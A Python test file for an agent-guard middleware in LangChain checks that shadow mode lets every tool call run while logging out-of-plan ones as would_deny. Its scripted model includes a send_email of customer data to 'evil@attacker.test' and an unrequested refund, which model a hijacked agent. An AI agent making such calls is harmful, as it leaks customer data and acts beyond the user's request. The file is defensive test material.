"""Shadow mode through the LangChain adapter: a real create_agent loop where nothing is blocked, all is recorded."""

from __future__ import annotations

from agent_guard_langchain import AgentGuardMiddleware
from agent_guard_langchain.testing import ScriptedChatModel, calls, tool_call
from langchain.agents import create_agent
from langchain_core.messages import HumanMessage, ToolMessage

from agent_guard import Guard, reasons


def _script() -> list:
    return [
        calls(tool_call("crm_lookup", {"customer_id": "C-42"}, "s1")),
        calls(tool_call("send_email", {"to": "evil@attacker.test", "subject": "list", "body": "all"}, "s2")),
        calls(tool_call("refund", {"order_id": "O-1", "amount": 10}, "s3")),
        calls(tool_call("send_email", {"to": "alice@example.com", "subject": "Summary", "body": "Hi"}, "s4")),
        "Done.",
    ]


async def test_shadow_mode_runs_every_call_and_records_would_deny(
    policy, plan, identity, clock, spans, support_tools, calls_seen, run, mode
):
    """The adapter checks decision.allowed only: in shadow mode the out-of-plan calls run, recorded as would_deny."""
    guard = Guard(policy, tracer_provider=spans.provider, clock=clock, mode="shadow")
    agent = create_agent(ScriptedChatModel(_script()), support_tools,
                         middleware=[AgentGuardMiddleware(guard, planner=plan, identity=identity)])
    out = await run(agent, {"messages": [HumanMessage("Email Alice (C-42) her summary")]}, mode)

    assert calls_seen.names() == ["crm_lookup", "send_email", "refund", "send_email"]  # nothing was blocked
    status = {m.tool_call_id: m.status for m in out["messages"] if isinstance(m, ToolMessage)}
    assert status == {"s1": "success", "s2": "success", "s3": "success", "s4": "success"}
    assert out["messages"][-1].content == "Done."
    rows = [(r["tool"], r["outcome"], r["reason"], r["call_id"]) for r in spans.decisions()]
    assert rows == [
        ("crm_lookup", "allow", "", "s1"),
        ("send_email", "would_deny", reasons.ARGUMENT_MISMATCH, "s2"),
        ("refund", "would_deny", reasons.TOOL_NOT_IN_SCOPE, "s3"),
        ("send_email", "allow", "", "s4"),
    ]
    (task,) = {t for t in calls_seen.tasks if t is not None}
    assert task.revocation_reason == "plan_completed"  # budgets were spent as enforcement would spend them
